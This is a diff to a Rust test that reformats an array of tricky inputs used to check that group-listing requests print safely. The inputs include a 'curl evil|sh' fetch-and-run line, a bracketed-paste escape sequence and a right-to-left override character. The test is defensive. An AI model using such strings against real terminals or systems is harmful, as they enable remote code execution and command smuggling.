@@ -199,9 +199,18 @@ mod tests {
 
     #[test]
     fn lines_are_printable_and_mean_the_same() {
-        for text in
-            ["\u{3}\ncurl evil|sh\n", "\u{15}", "\u{1b}[201~x", "\u{7f}", "\u{85}", "\u{202e}abc", "\u{200b}", "é", "😀", "\r'"]
-        {
+        for text in [
+            "\u{3}\ncurl evil|sh\n",
+            "\u{15}",
+            "\u{1b}[201~x",
+            "\u{7f}",
+            "\u{85}",
+            "\u{202e}abc",
+            "\u{200b}",
+            "é",
+            "😀",
+            "\r'",
+        ] {
             let filter = UidpFilter { ids: vec![text.into()], ..UidpFilter::default() };
             let request =
                 v2::ListGroupsRequest { uidp: Some(filter), name: text.into(), ..v2::ListGroupsRequest::default() };
